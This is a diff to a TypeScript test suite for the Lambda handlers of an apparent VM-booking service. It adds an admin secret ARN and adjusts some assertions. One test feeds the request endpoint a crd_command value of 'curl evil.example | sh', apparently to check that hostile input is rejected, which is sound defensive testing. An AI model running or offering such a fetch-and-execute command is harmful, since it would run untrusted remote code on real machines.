@@ -43,6 +43,7 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
     process.env.LABLINK_DB_CLUSTER_ARN = TEST_DATA_API_TARGET.resourceArn;
     process.env.LABLINK_DB_SECRET_ARN = TEST_DATA_API_TARGET.secretArn;
     process.env.LABLINK_DB_NAME = TEST_DATA_API_TARGET.database;
+    process.env.LABLINK_ADMIN_SECRET_ARN = 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:AdminSecret-AbCdEf';
     const migrate = (await import('../../lambda/migrate-handler')).handler;
     expect(await migrate({ RequestType: 'Create' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: '1' } });
     expect(await migrate({ RequestType: 'Update', PhysicalResourceId: 'lablink-schema' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: '' } });
@@ -65,7 +66,7 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
     await recordPoll(db.sql, 'aws-vm-1', 60);
     const page = await invoke(httpApiEvent('GET', '/'));
     expect(page.statusCode).toBe(200);
-    expect(page.body).toContain('1 VM free right now');
+    expect(page.body).toContain('1 VM is free right now');
     const count = await invoke(httpApiEvent('GET', '/api/unassigned_vms_count'));
     expect(JSON.parse(count.body)).toEqual({ count: 1 });
   });
@@ -74,7 +75,7 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
     const good = new URLSearchParams({ email: 'lambda@example.com', crd_command: crdCommand() }).toString();
     const response = await invoke(httpApiEvent('POST', '/api/request_vm', good, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }));
     expect(response.statusCode).toBe(200);
-    expect(JSON.parse(response.body)).toEqual({ hostname: 'aws-vm-1', pin: expect.stringMatching(/^\d{6}$/) });
+    expect(JSON.parse(response.body)).toMatchObject({ hostname: 'aws-vm-1', pin: expect.stringMatching(/^\d{6}$/) });
 
     const before = await db.dumpVms();
     const bad = new URLSearchParams({ email: 'x@example.com', crd_command: 'curl evil.example | sh' }).toString();
